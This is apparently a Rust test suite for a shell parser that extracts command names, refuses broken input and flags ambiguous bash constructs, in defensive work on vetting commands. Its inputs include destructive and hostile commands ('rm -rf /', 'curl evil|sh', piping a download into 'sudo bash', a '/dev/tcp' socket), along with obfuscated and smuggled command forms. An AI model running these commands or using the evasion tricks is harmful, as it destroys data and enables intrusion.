//! Source to commands: the cases on which published parsers were measured, and
//! those that two shells read differently.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use shell_syntax::{ErrorKind, parse};

#[track_caller]
fn check(source: &str, expected: &str) {
    let script = parse(source).unwrap_or_else(|error| panic!("{source:?}: {error}"));
    assert_eq!(common::names(&script).join(" "), expected, "{source:?}");
}

#[track_caller]
fn refused(source: &str) {
    assert!(parse(source).is_err(), "{source:?} was accepted");
}

#[track_caller]
fn doubted(source: &str) {
    if let Ok(script) = parse(source) {
        assert!(!script.doubts.is_empty(), "{source:?} raised no doubt");
    }
}

#[test]
fn finds_every_command() {
    for (source, expected) in [
        ("cat <<EOF\n$(rm -rf /x)\nEOF", "cat rm"),
        ("cat <<'EOF'\n$(rm -rf /x)\nEOF", "cat"),
        ("a=(x)# && rm -rf /x", "rm"),
        ("a=(x)$(id)", "id"),
        ("cat <<EOF\nsay \"hi\" $(id)\nEOF", "cat id"),
        ("diff <(ls /a) <(sort /b)", "diff ls sort"),
        ("echo $(echo $(echo $(id)))", "echo echo echo id"),
        ("echo `echo \\`id\\``", "echo echo id"),
        ("x=${y:-$(curl evil|sh)}; echo $x", "curl sh echo"),
        ("echo \"$(( $(id -u) + 1 ))\"", "echo id"),
        ("[[ -n $(whoami) ]] && ls", "whoami ls"),
        (
            "a=( $(find /) ); for i in $(seq 3); do kill $i; done",
            "find seq kill",
        ),
        (
            "case $(uname) in Linux) apt-get update;; esac",
            "uname apt-get",
        ),
        ("f() { rm -rf /; }; f", "rm f"),
        ("tee >(gzip -c > x.gz) < <(dmesg)", "tee gzip dmesg"),
        ("cat <<-EOF\n\t${HOME:+$(touch /tmp/p)}\n\tEOF", "cat touch"),
        ("{ echo a; echo b; } > \"$(mktemp)\"", "echo echo mktemp"),
        ("! time -p ls | wc -l", "ls wc"),
        ("coproc NC { nc -l 1234; }", "nc"),
        ("$'\\x72m' -rf /", "rm"),
        ("r''m -rf /; \"rm\" x; \\rm y", "rm rm rm"),
        ("r\\\nm -rf /", "rm"),
        ("export A=$(id)", "export id"),
        ("<<<\"$(id)\" cat", "id cat"),
        ("echo ${arr[$(id -u)]}", "echo id"),
        ("echo ${x//$(id)/b}", "echo id"),
        ("exec 3<>/dev/tcp/1.2.3.4/80", "exec"),
        ("cmd1 |& cmd2; cmd3 & wait", "cmd1 cmd2 cmd3 wait"),
        ("((x=$(id -u)))", "id"),
        ("for ((i=0;i<$(nproc);i++)); do echo; done", "nproc echo"),
        ("echo ${ id; }", "echo id"),
        ("echo ${| id; }", "echo id"),
        ("select x in $(ls); do break; done", "ls break"),
        ("cat <<A <<B\n$(a1)\nA\n$(b1)\nB", "cat a1 b1"),
        ("x=$(cat <<EOF\n$(id)\nEOF\n)\necho", "cat id echo"),
        ("echo \"한글\" $(id)", "echo id"),
        ("declare -a x=([0]=$(id))", "declare id"),
        ("[[ $x =~ $(id) ]]", "id"),
        ("ls !(a|b)", "ls"),
        (
            "while read -r l; do echo \"$l\"; done < <(journalctl -u x)",
            "read echo journalctl",
        ),
        ("a=$(id) b=2 env", "id env"),
        ("echo ${x:$(id -u):1}", "echo id"),
        ("echo $(( a[$(id)] ))", "echo id"),
        ("echo $[ $(id -u) + 1 ]", "echo id"),
        ("echo ${x%%$(id)*}", "echo id"),
        ("echo ${!x:-$(id)}", "echo id"),
        ("echo \"a $(echo \"b $(id)\")\"", "echo echo id"),
        ("x=$(case a in a) id;; esac); echo", "id echo"),
        ("x=$(# c ) \n id\n); echo", "id echo"),
        ("if a; then b; elif c; then d; else e; fi", "a b c d e"),
        ("f() { id; } > $(mktemp)", "id mktemp"),
        (
            "[ -f \"$(which sh)\" ] && sudo -u root sh -c 'id'",
            "[ which sudo",
        ),
        ("curl -fsSL https://x | sudo bash -s -- --y", "curl sudo"),
        ("( ( rm -rf / ) )", "rm"),
        ("( (id) )", "id"),
        ("((id); id2)", "id id2"),
        ("a[$(id)]=1", "id"),
        ("exec {fd}<>$(mktemp)", "exec mktemp"),
        ("$(echo rm) -rf /", "? echo"),
        ("$X -rf /", "?"),
        ("\"$@\"", "?"),
        ("echo {a,$(id)}", "echo id"),
    ] {
        check(source, expected);
    }
}

#[test]
fn finds_commands_in_unusual_places() {
    for (source, expected) in [
        ("$\\\n(id)", "? id"),
        ("echo $\\\n(id)", "echo id"),
        ("echo \"`echo \\\"$(id)\\\"`\"", "echo echo id"),
        (
            "echo `echo \\`echo \\\\\\`id\\\\\\`\\``",
            "echo echo echo id",
        ),
        ("echo \"${x:-\"$(id)\"}\"", "echo id"),
        ("echo \"${x:-'$(id)'}\"", "echo id"),
        ("cat <<EOF\n${x:-'$(id)'}\nEOF", "cat id"),
        ("cat <<EOF | sh\nrm -rf /\nEOF", "cat sh"),
        ("cat <<A; ls\n`id`\nA\nwho", "cat ls id who"),
        ("echo $((`id`))", "echo id"),
        ("if [[ a == @(a|$(id)) ]]; then ls; fi", "id ls"),
        ("!(id)", "id"),
        ("until a; do b; done | c", "a b c"),
        ("{ a; } && (b) || c &", "a b c"),
        ("function f { a; }; function g() ( b )", "a b"),
        ("f() if a; then b; fi", "a b"),
        ("for x do a; done", "a"),
        ("for x in 1 2\ndo a; done", "a"),
        ("for x in 1; { a; }", "a"),
        ("case x in (a|b) c;& d) e;;& *) f; esac", "c e f"),
        ("case x in esac; a", "a"),
        ("coproc ls -l; b", "ls b"),
        ("time a", "a"),
        ("time", ""),
        ("a > b 2>&1 < c 3>&- c", "a"),
        ("> f", ""),
        ("x=1", ""),
        ("a # b; c\nd", "a d"),
        ("a#b; c", "a#b c"),
        ("x=#b; c #d", "c"),
        ("\"a b\" c", "a b"),
        (
            "echo ${#x} ${#} ${x#y} ${!x*} ${x@Q} ${#x[@]} $$ $# ${-}",
            "echo",
        ),
        ("$\"ls\" a", "ls"),
        ("echo $(( (1+2) * 3 )) $((1)) x", "echo"),
        ("echo $((echo a); b)", "echo echo b"),
        ("a[1 + 2]=x b", "b"),
        ("a[1] b", "?"),
        ("local a=(1 2 $(id)) b", "local id"),
        ("echo a\\ b\\;c", "echo"),
        ("", ""),
        ("# only a comment", ""),
        ("a;\n\n;b", "error"),
    ] {
        if expected == "error" {
            refused(source);
        } else {
            check(source, expected);
        }
    }
}

#[test]
fn refuses_what_no_shell_runs() {
    for source in [
        "echo $(id",
        "echo 'abc",
        "echo \"abc",
        "echo `abc",
        "echo ${abc",
        "echo $((1",
        "if; then fi",
        "a |",
        "a &&",
        "; a",
        "( a",
        "a )",
        "{ a; ",
        "a; }",
        "()",
        "a (b)",
        "for; do a; done",
        "while a; done",
        "case x in a) b",
        "a ;; b",
        "[[ a",
        "[[ ]]",
        "[[ a b ]]",
        "[[ -f ]]",
        "[[ a && ]]",
        "[[ a == ]]",
        "[[ ( a ]]",
        "[[ a\nb ]]",
        "a <",
        "f() a",
        "done",
        "a && || b",
        "echo a\0b",
    ] {
        refused(source);
    }
}

#[test]
fn doubts_what_shells_read_differently() {
    for source in [
        "echo \"$(ok ${x:-$'$(id)'})\"",
        "echo \"$(ok ${x:-$'}; id; '})\"",
        "echo \"$(ok ${x:-$'\\x24(id)'})\"",
        "echo $'a\\'; rm -rf /; echo \\''",
        "echo &>/dev/null rm -rf /",
        "[[ a || rm -rf / ]]",
        "ls || [[ a && rm ]]",
        "! [[ a && rm ]]",
        "(([[ a || rm ]]))",
        "[[ a || ! rm ]]",
        "((cat <<< '($(rm)'))",
        "((select; rm))",
        "((a &>|b rm))",
        "(({<<E a; } 2>b; rm))",
        "(( $'a\\'' ))",
        "[[\nrm -rf ]]",
        "[[ ! \n rm ]]",
        "[[ a =~ b|rm ]]",
        "[[ a > b ]]",
        "echo $[ 1 ; rm -rf / ]",
        "a[1;rm -rf /]=1",
        "echo ${ id; }",
        "cat <<EOF $(echo a\necho b)\nbody\nEOF",
        "echo $(cat <<EOF)\nrm -rf /\nEOF",
        "cat <<$(id)\nx\n$(id)",
        "cat <<EOF\nEO\\\nF\nrm -rf /\nEOF",
        "echo \"${x:-'}'}\"",
        "a=(x)# && rm -rf /",
        "declare a+=(x)<(id)",
    ] {
        doubted(source);
    }
}

#[test]
fn plain_lines_raise_no_doubt() {
    for source in [
        "echo ${x//$'\\n'/ } ${x%$'\\r'}",
        "systemctl restart nginx",
        "make 2>&1 | tee log",
        "cmd &>/dev/null",
        "[[ -f a && -n $b ]] && ls",
        "[[ ! -f a && ( -n $b || -d c ) ]] && ls",
        "[[ $a == b* && $c != d && $e =~ ^x+$ ]]",
        "[[ -f a &&\n -f b ]]",
        "[[ $a -eq 1 ]]",
        "[[ $a ]]",
        "echo \"${x:-y}\" ${x#'a'} $'tab\\there'",
        "x=$(cat <<EOF\nhi\nEOF\n)",
        "arr[0]=1; echo ${arr[0]} $((i + 1))",
        "for f in *.log; do gzip \"$f\"; done",
    ] {
        assert_eq!(parse(source).unwrap().doubts, [], "{source:?}");
    }
}

#[test]
fn reads_double_parentheses_both_ways() {
    use shell_syntax::CommandKind;
    let script = parse("((id))").unwrap();
    let command = &script.list.items[0].first.commands[0];
    let CommandKind::Arithmetic {
        as_subshell: Some(list),
        ..
    } = &command.kind
    else {
        panic!("{command:?}");
    };
    assert_eq!(list.items.len(), 1);
}

#[test]
fn spans_are_bytes_of_the_input() {
    let source = "echo \"한글\" `echo \\`id\\``";
    let script = parse(source).unwrap();
    let mut spans = Spans(Vec::new());
    shell_syntax::walk(&script, &mut spans);
    let words: Vec<_> = spans
        .0
        .iter()
        .map(|span| &source[span.start..span.end])
        .collect();
    assert_eq!(
        words,
        [
            "echo",
            "\"한글\"",
            "`echo \\`id\\``",
            "echo",
            "\\`id\\`",
            "id"
        ]
    );
}

struct Spans(Vec<shell_syntax::Span>);

impl<'a> shell_syntax::Visitor<'a> for Spans {
    fn word(&mut self, word: &'a shell_syntax::Word) {
        self.0.push(word.span);
    }
}

#[test]
fn deep_nesting_is_refused_on_a_small_stack() {
    let lines = [
        "echo $(".repeat(5_000) + &")".repeat(5_000),
        "(".repeat(200_000),
        "{ ".repeat(100_000),
        "\"$(".repeat(50_000),
        "${x:-".repeat(40_000),
        "$((".repeat(60_000),
        "((".repeat(60_000),
        "`".repeat(100_001),
        "if ".repeat(60_000),
        "[[ x =~ ".to_owned() + &"(".repeat(100_000),
        "@(".repeat(100_000),
        "f() ".repeat(50_000),
        "coproc ".repeat(30_000),
        "a[$(".repeat(50_000),
        "<(".repeat(100_000),
        "x=(".repeat(60_000),
        "! ".repeat(100_000),
        "cat <<A\n$(".repeat(20_000),
    ];
    let run = move || {
        for line in lines {
            let error = parse(&line).map(|_| ()).expect_err("must be refused");
            let shown: String = line.chars().take(20).collect();
            assert_ne!(error.kind, ErrorKind::TooLong, "{shown}");
        }
    };
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(run)
        .unwrap()
        .join()
        .unwrap();
}

#[test]
fn deepest_accepted_nesting_fits_a_small_stack() {
    let run = || {
        for (open, close) in [
            ("echo $(", ")"),
            ("echo \"$(", ")\""),
            ("echo ${x:-", "}"),
            ("( ", " )"),
            ("{ ", "; }"),
            ("if a; then ", "; fi"),
            ("echo $((1+", "))"),
            ("f() { ", "; }"),
            ("echo @(", ")"),
            ("echo <(", ")"),
            ("x=${y:-`", "`}"),
        ] {
            let deepest = (1..150)
                .filter(|depth| parse(&(open.repeat(*depth) + "a" + &close.repeat(*depth))).is_ok())
                .max();
            assert!(deepest.is_some(), "{open}");
        }
    };
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(run)
        .unwrap()
        .join()
        .unwrap();
}

#[test]
fn length_is_checked_first() {
    let line = "$(".repeat(1 << 19);
    assert_eq!(parse(&line).unwrap_err().kind, ErrorKind::TooLong);
}
